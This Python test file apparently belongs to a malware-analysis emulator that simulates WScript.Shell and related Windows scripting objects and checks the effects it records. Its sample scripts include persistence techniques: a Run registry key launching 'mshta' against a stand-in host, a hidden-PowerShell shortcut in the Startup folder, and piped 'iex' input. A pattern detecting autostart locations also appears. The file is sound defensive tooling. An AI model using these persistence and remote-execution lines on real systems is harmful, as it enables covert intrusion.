import pytest
from evaluate.com.program import machine, run, value

from emoscan.evaluate.com.registry import AUTOSTART, normal
from emoscan.evaluate.com.shells import script_host
from emoscan.evaluate.core.failures import ScriptEnd
from emoscan.evaluate.core.values import Unknown

SHELL = 'Set sh = CreateObject("WScript.Shell")\n'


@pytest.mark.parametrize(
    "name",
    [
        "WScript.Shell",
        "wscript.SHELL.1",
        "new:{72C24DD5-D70A-438B-8A42-98424B88AFB8}",
        "{72c24dd5-d70a-438b-8a42-98424b88afb8}",
        "clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8",
        "IWshRuntimeLibrary.WshShell",
    ],
)
def test_run_by_any_name_of_the_class(name):
    outcome = run(f'CreateObject("{name}").rUn "cmd /c echo inert", 0, True')
    assert outcome.effects() == [("run", "cmd /c echo inert")]
    assert outcome.texts("script.cmd") == ["cmd /c echo inert"]
    fact = outcome.fact("effect.run")
    assert fact.how == "WScript.Shell.Run"
    assert fact.detail == {"show_window": "0", "module": "Module1", "line": "3"}


def test_named_arguments():
    outcome = run('CreateObject("WScript.Shell").Run WindowStyle:=1, Command:="calc"')
    assert outcome.effects() == [("run", "calc")]
    assert "show_window" not in outcome.fact("effect.run").detail


def test_unknown_parts_of_a_command_are_shown():
    outcome = run(SHELL + 'sh.Run "cmd /c " & sh.Exec("whoami").StdOut.ReadAll')
    assert outcome.effects("run") == ["whoami", "cmd /c <Unknown: output of whoami>"]


def test_exec_runs_until_its_output_is_read():
    outcome = run(
        SHELL
        + """
        Set x = sh.Exec("cmd.exe")
        Do While x.Status = 0: rounds = rounds + 1: Loop
        Do Until x.StdOut.AtEndOfStream: line = x.StdOut.ReadLine: lines = lines + 1: Loop
        x.StdIn.WriteLine "powershell -c 1"
        Main = rounds & " " & lines & " " & x.ExitCode
        """
    )
    assert outcome.value == "1 1 0"
    assert outcome.texts("script.cmd") == ["cmd.exe", "powershell -c 1"]


def test_what_is_typed_into_a_program_is_one_script():
    outcome = run(SHELL + 'Set x = sh.Exec("powershell -"): x.StdIn.WriteLine "$a=1": x.StdIn.Write "ie": x.StdIn.Write "x $a"')
    assert outcome.texts("script.powershell") == ["$a=1\r\niex $a"]


VALUES = [
    ('sh.ExpandEnvironmentStrings("%TEMP%\\x %nothing% 5%")', r"C:\Users\tanaka\AppData\Local\Temp\x %nothing% 5%"),
    ('sh.Environment("Process")("USERNAME")', "tanaka"),
    ('sh.Environment("PROCESS").Item("none")', ""),
    ('sh.SpecialFolders("Startup")', r"C:\Users\tanaka\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup"),
    ('sh.SpecialFolders.Item("appdata")', r"C:\Users\tanaka\AppData\Roaming"),
    ('sh.SpecialFolders("nowhere")', ""),
    ("sh.SpecialFolders.Count", 17),
    ("sh.CurrentDirectory", r"C:\Users\tanaka\Documents"),
    ('sh.RegRead("HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\ProductName")', "Windows 10 Pro"),
    ('sh.Popup("Error", 5, "title", 4)', 6),
    ('sh.Popup("Error")', 1),
    ('sh.AppActivate("Word")', True),
]


@pytest.mark.parametrize(("expression", "expected"), VALUES)
def test_value(expression, expected):
    assert value(expression, SHELL) == expected


def test_environment_is_kept_and_listed():
    outcome = run(SHELL + 'Set e = sh.Environment("User"): e("abc") = "x y": For Each v In e: If v = "abc=x y" Then Main = e("ABC")\nNext')
    assert outcome.value == "x y"


def test_asking_who_one_is_is_a_query():
    outcome = run(SHELL + 'x = sh.ExpandEnvironmentStrings("%COMPUTERNAME%"): y = sh.ExpandEnvironmentStrings("%windir%")')
    assert outcome.effects("query") == ["environment variable computername"]


def test_run_key():
    outcome = run(
        SHELL
        + """
        k = "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Update"
        sh.RegWrite k, "mshta http://files.example.test/a.hta", "REG_SZ"
        Main = sh.RegRead(k)
        sh.RegDelete k
        """
    )
    path = r"HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run\Update"
    assert outcome.value == "mshta http://files.example.test/a.hta"
    assert outcome.effects() == [("registry", path), ("delete", path)]
    assert outcome.texts("script.cmd") == ["mshta http://files.example.test/a.hta"]


def test_missing_registry_values_are_errors():
    assert run(SHELL + 'sh.RegRead "HKCU\\No\\Such"').error == -2147024894
    assert run(SHELL + 'sh.RegDelete "HKCU\\No\\Such"').error == -2147024894


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        (r"HKCU\Software\Microsoft\Windows\CurrentVersion\RunOnce\x", True),
        (r"HKLM\Software\Microsoft\Windows NT\CurrentVersion\Winlogon\Shell", True),
        (r"HKCU\Software\Classes\mscfile\shell\open\command\ ".strip(), True),
        (r"HKCU\Environment\UserInitMprLogonScript", True),
        (r"HKCU\Software\Microsoft\Office\16.0\Word\Security\VBAWarnings", False),
    ],
)
def test_places_that_windows_starts_programs_from(path, expected):
    assert bool(AUTOSTART.search(normal(path).lower())) == expected


def test_shortcut_in_the_startup_folder():
    outcome = run(
        SHELL
        + """
        Set s = sh.CreateShortcut(sh.SpecialFolders("Startup") & "\\a.lnk")
        s.TargetPath = "powershell.exe": s.Arguments = "-w hidden -c 1": s.WindowStyle = 7
        s.Save
        """
    )
    path = r"C:\Users\tanaka\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\a.lnk"
    assert outcome.effects() == [("write", path), ("schedule", path)]
    assert outcome.texts("script.cmd") == ["powershell.exe -w hidden -c 1"]
    assert run(SHELL + 'sh.CreateShortcut "a.exe"').error != 0


def test_network():
    before = 'Set n = CreateObject("WScript.Network")\n'
    assert value('n.UserName & " " & n.ComputerName & " " & n.UserDomain', before) == "tanaka DESKTOP-7Q2M1KD CORP"
    outcome = run(before + 'n.MapNetworkDrive "Z:", "\\\\192.0.2.1\\share"')
    assert outcome.effects() == [("open", r"\\192.0.2.1\share")]


def test_send_keys():
    assert run(SHELL + 'sh.SendKeys "^{ESC}notes~"').effects() == [("keys", "^{ESC}notes~")]
    assert run(SHELL + 'sh.SendKeys "^{ESC}": sh.SendKeys "cmd /c {(}x{)} {ENTER}"').effects("run") == ["cmd /c (x)"]
    assert run(SHELL + 'sh.SendKeys "power{ESC}mshta x"').effects("run") == []


def test_script_host():
    made = machine()
    made.world.arguments = ("/b:1", "x")
    host = script_host(made)
    assert made.get(host, "ScriptName") == "invoice.doc"
    assert made.get(host, "Arguments", (1,)) == "x"
    assert made.get(made.get(made.get(host, "Arguments"), "Named"), "Item", ("B",)) == "1"
    assert made.get(made.get(host, "Arguments"), "Count") == 2
    assert made.get(host, "FullName") == r"C:\WINDOWS\System32\wscript.exe"
    before = made.world.now
    made.get(host, "Sleep", (2500,))
    assert (made.world.now - before).total_seconds() == 2.5
    with pytest.raises(ScriptEnd):
        made.get(host, "Quit")
    assert made.get(made.get(host, "CreateObject", ("WScript.Shell",)), "CurrentDirectory") == made.world.directory
    assert isinstance(made.get(made.get(host, "StdIn"), "ReadLine"), Unknown)


def test_script_control():
    outcome = run(
        """
        Set c = CreateObject("MSScriptControl.ScriptControl")
        c.Language = "JScript"
        c.AddCode "function f(x){return x}"
        c.Run "f", "a""b", 2
        c.Eval "1+1"
        c.Reset
        c.Language = "VBScript"
        c.ExecuteStatement "MsgBox 1"
        """
    )
    assert [child.kind for child in outcome.children] == ["script.js", "script.js", "script.js", "script.vbs"]
    assert outcome.texts() == [
        "function f(x){return x}",
        'function f(x){return x}\nf("a""b", 2)',
        "function f(x){return x}\n1+1",
        "MsgBox 1",
    ]
    assert {f.how for f in outcome.facts} == {f"ScriptControl.{name}" for name in ("AddCode", "Run", "Eval", "ExecuteStatement")}


def test_classes_that_are_nowhere():
    assert run('CreateObject "No.Such.Class"').error == 429
    outcome = run('Set x = CreateObject("SAPI.SpVoice"): x.Rate = 2: Main = x.Rate: x.Speak "hello"')
    assert outcome.value == 2
    assert [f.value for f in outcome.facts] == ["object SAPI.SpVoice", "SAPI.SpVoice.speak"]
